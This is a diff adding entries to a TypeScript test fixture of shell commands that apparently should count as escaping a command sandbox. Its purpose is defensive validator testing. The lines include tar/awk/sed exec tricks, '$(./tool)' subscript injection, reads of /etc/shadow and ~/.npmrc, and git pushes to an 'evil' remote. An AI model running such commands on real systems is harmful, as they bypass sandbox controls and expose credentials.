@@ -6,6 +6,9 @@
  */
 export const escapingCommands: Record<string, readonly string[]> = {
   tar: [
+    "tar cf -- -I ./tool src",
+    "tar -c -f -- -I ./tool src",
+    "tar xf -- --to-command ./tool",
     "tar cf a.tar a --checkpoint=1 --checkpoint-action=exec=./tool",
     "tar cf a.tar a --checkpoint=1 --checkpoint-act=exec=./tool",
     "tar xf a.tar --to-command=./tool",
@@ -25,6 +28,8 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "tar cf a.tar *",
   ],
   find: [
+    "for f in a; do for f in -delete; do find f; done; find . $f; done",
+    "for f in a; do find . | while read -r f; do find b; done; find . $f; done",
     "find . -newer *",
     "find . -exec cat {}/../../../etc/passwd \\;",
     "find ./f -d{elete,elete}",
@@ -52,6 +57,9 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "find .. -type f",
   ],
   sed: [
+    "sed 's/[^]/y/g;s,a/]/x/w out,b,' f",
+    "sed ':a;s/x/ \\\nw out;/' f",
+    "sed 'b x;a \\\nw out' f",
     "sed ':#s/x/y/e' a",
     "sed ':a#b;w out' a",
     "sed --sandbo 'w out' a",
@@ -83,6 +91,7 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "sed p *",
   ],
   awk: [
+    "awk -v c=./tool '/[^]/]\"/{system(c)}#\"' a",
     "awk 'BEGIN { ARGV[1] = \"/etc/passwd\"; ARGC = 2 } 1'",
     "awk 'BEGIN { system (\"./tool\") }'",
     'awk \'{ print "x"; print x,\ny > "out" }\' a',
@@ -138,6 +147,8 @@ export const escapingCommands: Record<string, readonly string[]> = {
   ],
   split: ["split --filter=./tool a", "split --fil ./tool a", "split $X a"],
   xargs: [
+    "echo out | xargs -I x -n 2 uniq a",
+    "echo out | xargs -I x -L 1 uniq a",
     "find . | xargs -d . cat",
     "xargs -a list -I sh sh",
     "xargs -I '' ./tool",
@@ -171,6 +182,11 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "env --split-string='./tool'",
   ],
   git: [
+    "git log --format=%G?",
+    "git for-each-ref --format='%(signature)'",
+    "git push evil main",
+    "git push sub/evil.git main",
+    "git fetch evil",
     "git log -O./order",
     "git diff --no-index a b",
     "git -C / log",
@@ -556,6 +572,8 @@ export const escapingCommands: Record<string, readonly string[]> = {
   head: ["head -c 100 /etc/shadow", "head $HOME/.npmrc"],
   tail: ["tail -n 1 /var/log/syslog"],
   grep: [
+    "grep -l x 'a /etc/hostname b' 2>&1 | xargs cat",
+    "grep -l x 'a /etc/hostname b' |& xargs cat",
     "grep /etc/*",
     "grep -r x --exclude-from=/etc/shadow .",
     "grep -nf/etc/x a",
@@ -576,6 +594,7 @@ export const escapingCommands: Record<string, readonly string[]> = {
   file: ["file -C -m x", "file -f /etc/shadow", "file -m ~/x a"],
   ls: ["ls /root", "ls ~", "ls -la /etc", "ls > out"],
   jq: [
+    "jq '.[env:1]' a",
     "jq 'import \"x\" as $x; .' a",
     "jq env a",
     "jq '$ENV' a",
@@ -595,7 +614,13 @@ export const escapingCommands: Record<string, readonly string[]> = {
   ],
   zgrep: ["GREP=./tool zgrep x a"],
   cloc: ["cloc --extract-with=./tool a.tar"],
-  yq: ["yq 'load(\"/etc/x.yml\")' a", "yq 'env(SECRET)' a", "yq --split-exp .a x.yml", "yq -s .a x.yml"],
+  yq: [
+    'yq \'"q" "x.yml", load: 1\' a.yml',
+    "yq 'load(\"/etc/x.yml\")' a",
+    "yq 'env(SECRET)' a",
+    "yq --split-exp .a x.yml",
+    "yq -s .a x.yml",
+  ],
   export: [
     "RANDOM='a[$(>out)]'; ls",
     "for SECONDS in 'a[$(>out)]'; do ls; done",
@@ -624,6 +649,9 @@ export const escapingCommands: Record<string, readonly string[]> = {
   ],
   read: ["read 'a[$(./tool)]'"],
   test: [
+    "test -- = -- -a -v 'a[$(./tool)]'",
+    "[ -- = -- -a -v 'a[$(./tool)]' ]",
+    "while read -r p; do [[ -f $p ]]; done < list",
     "[ -f /etc/shadow ]",
     "[[ -f /etc/shadow ]] && test a",
     "[ -R x ]",
@@ -632,6 +660,8 @@ export const escapingCommands: Record<string, readonly string[]> = {
   ],
   let: ["let 'x = a[$(./tool)]'"],
   echo: [
+    "while read -r l; do [[ -n $l ]] | echo $l; done < /etc/passwd",
+    "echo \\;#$'a'",
     'echo "$(ls # )\n./tool\n)"',
     'echo "$(#)\n./tool\n)"',
     "echo $(./tool)",
@@ -646,4 +676,7 @@ export const escapingCommands: Record<string, readonly string[]> = {
     "[[ $x -eq 1 ]] && echo y",
     "((a[$(./tool)]))",
   ],
+  vitest: ["vitest init browser"],
+  "./check.sh": ["cd other && ./check.sh"],
+  "awk -F": ["awk -F , 'BEGIN { system(\"./tool\") }' a"],
 };
